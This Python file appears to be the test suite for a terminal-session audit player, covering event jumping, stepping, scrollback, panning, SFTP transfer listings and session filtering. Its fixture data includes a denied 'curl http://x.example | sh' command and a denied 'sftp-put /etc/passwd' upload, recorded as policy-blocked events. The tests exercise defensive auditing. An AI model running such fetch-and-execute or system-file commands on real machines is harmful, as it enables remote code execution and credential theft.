"""Pilot tests of the timeline panel, stepping, scrollback, panning, the transfer view and
the kind filter, against the audit archive (real recorder, approval queue, audit log)."""

from __future__ import annotations

from player_testing import NOW, settle, sync
from textual.widgets import DataTable, Input, Static

from player.app import PlayerApp
from player.events_panel import EventsPanel
from player.find import FindScreen
from player.replay import ReplayScreen
from player.terminal_view import TerminalView
from player.transfer_view import TraceScreen, TransferScreen
from recorder.settings import RecorderSettings

ERIN = "audit-erin-0005"
FRANK = "audit-frank-0006"


def _replay(app: PlayerApp) -> ReplayScreen:
    assert isinstance(app.screen, ReplayScreen)
    return app.screen


def _text(app: PlayerApp) -> str:
    return app.screen.query_one(TerminalView).screen_text()


def _status(app: PlayerApp) -> str:
    return str(app.screen.query_one("#replay-status", Static).render())


def _detail(app: PlayerApp) -> str:
    return str(app.screen.query_one("#events-detail", Static).render())


@sync
async def test_enter_on_an_event_jumps_the_replay_there(audit_settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, session_id=ERIN, clock=lambda: NOW)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(pilot)
        scr = _replay(app)
        panel = scr.query_one(EventsPanel)
        assert panel.display  # 160 columns: room for the panel beside 80
        texts = [r.text for r in panel.rows]
        assert "approved by bob: maintenance window  (#1 $ systemctl stop pg)" in texts
        assert "denied by carol: not without a ticket  (#2 $ userdel mallory)" in texts
        assert "session terminated by bob: data exfiltration" in texts
        await pilot.press("tab")  # focus the list
        table = panel.query_one(DataTable)
        row = next(i for i, r in enumerate(panel.rows) if r.kind == "rejected")
        table.move_cursor(row=row)
        await pilot.pause()
        detail = _detail(app)
        assert "decided by: carol" in detail and "their reason: not without a ticket" in detail
        assert "reason given: account changes need approval" in detail
        assert "rule: approve-account-change" in detail
        await pilot.press("enter")
        await settle(pilot)
        assert scr.position == 12.0
        assert "denied by carol: not without a ticket" in _text(app)  # what erin saw
        table.move_cursor(row=next(i for i, r in enumerate(panel.rows) if r.kind == "denied"))
        await pilot.press("enter")
        await settle(pilot)
        assert scr.position == 14.0 and "$ curl http://x.example | sh" in _status(app)
        assert "bastille: denied by policy: piping downloads into a shell" in _text(app)
        await pilot.press("escape")  # leaves the list, the replay stays
        await pilot.pause()
        assert isinstance(app.screen, ReplayScreen) and not panel.list_focused
        # while the list is not focused, its cursor follows the playback position
        await pilot.press("g", *"6.5", "enter")
        await settle(pilot)
        assert panel.current() is not None and panel.current().kind == "approved"  # type: ignore[union-attr]


@sync
async def test_step_by_event_and_by_output_chunk(audit_settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, session_id=ERIN, clock=lambda: NOW)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(pilot)
        scr = _replay(app)
        seen = []
        for _ in range(4):
            await pilot.press("greater_than_sign")
            await settle(pilot)
            seen.append(scr.position)
        assert seen == [1.0, 3.0, 6.0, 8.0]
        await pilot.press("less_than_sign")
        await settle(pilot)
        assert scr.position == 6.0
        await pilot.press("full_stop")  # the next output after 6.0 (the prompt came with it)
        await settle(pilot)
        assert scr.position == 8.0
        await pilot.press("comma", "comma")
        await settle(pilot)
        assert scr.position == 1.0
        assert "waiting for approval #1" in _text(app)


@sync
async def test_scrollback_while_paused_and_pan_indicator(
        audit_settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, session_id=ERIN, clock=lambda: NOW)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        scr = _replay(app)
        assert not scr.query_one(EventsPanel).display  # no room beside 80 columns
        await pilot.press("g", *"20", "enter")
        await settle(pilot)
        # the recording is 121x40 by now: larger than the window, panned, and said so
        assert "view cols 1-80/121 rows" in _status(app)
        assert "line-01" not in _text(app)
        await pilot.press("pageup")
        await settle(pilot)
        view = scr.query_one(TerminalView)
        assert view.history > 0 and any("line-01" in line for line in view.lines)
        assert "scrollback: lines" in _status(app)
        await pilot.press("escape")
        await settle(pilot)
        assert view.history == 0 and not scr.in_scrollback
        await pilot.press("shift+right", "shift+right")
        await pilot.pause()
        assert "view cols 17-96/121" in _status(app)


@sync
async def test_transfer_session_opens_as_a_list(audit_settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, clock=lambda: NOW)
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, FindScreen)
        ids = [str(c) for c in app.screen.query_one(DataTable).get_column("id")]
        await pilot.press(*["down"] * ids.index(FRANK), "enter")
        await settle(pilot)
        scr = app.screen
        assert isinstance(scr, TransferScreen)
        table = scr.query_one("#transfers", DataTable)
        rows = [[str(c) for c in table.get_row_at(i)] for i in range(table.row_count)]
        assert rows[0][2:] == ["upload", "/srv/app/release.tar.gz", "1.0 MiB", "cd" * 32]
        assert rows[1][2:] == ["download", "/etc/hosts", "220 B", "ef" * 32]
        assert rows[2][2:4] == ["rename", "/srv/app/a -> /srv/app/b"]
        assert rows[3][2] == "denied" and "sftp-put /etc/passwd" in rows[3][3]
        detail = str(scr.query_one("#transfer-detail", Static).render())
        assert "size: 1.0 MiB (1048576 bytes)" in detail and "sha256: " + "cd" * 32 in detail
        await pilot.press("o")
        await settle(pilot)
        trace = app.screen
        assert isinstance(trace, TraceScreen)
        assert trace.total == 3
        dump = str(trace.query_one("#trace-dump", Static).render())
        assert dump.startswith("000000  00 00 00 05 01 00 00 00 03")
        await pilot.press("escape", "escape")
        await settle(pilot)
        assert isinstance(app.screen, FindScreen)


@sync
async def test_kind_column_and_filter(audit_settings: RecorderSettings,
                                      settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, clock=lambda: NOW)
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot)
        table = app.screen.query_one(DataTable)
        kinds = {str(r): str(k) for r, k in zip(table.get_column("id"), table.get_column("kind"),
                                                strict=True)}
        assert kinds == {ERIN: "shell", FRANK: "sftp"}
        await pilot.press("k", *"transfer", "enter")
        await settle(pilot)
        assert [str(c) for c in table.get_column("id")] == [FRANK]
        await pilot.press("k", "ctrl+u", *"shell", "enter")
        await settle(pilot)
        assert [str(c) for c in table.get_column("id")] == [ERIN]
        await pilot.press("k", "ctrl+u", *"rdp", "enter")
        await settle(pilot)
        assert table.row_count == 0
        assert app.screen.query_one("#f-kind", Input).value == "rdp"


@sync
async def test_opening_a_transfer_session_by_id_shows_the_list(
        audit_settings: RecorderSettings) -> None:
    app = PlayerApp(audit_settings, session_id="audit-frank", clock=lambda: NOW)
    async with app.run_test(size=(100, 30)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, TransferScreen)
        await pilot.press("r")  # the terminal replay is still there
        await settle(pilot)
        assert isinstance(app.screen, ReplayScreen)
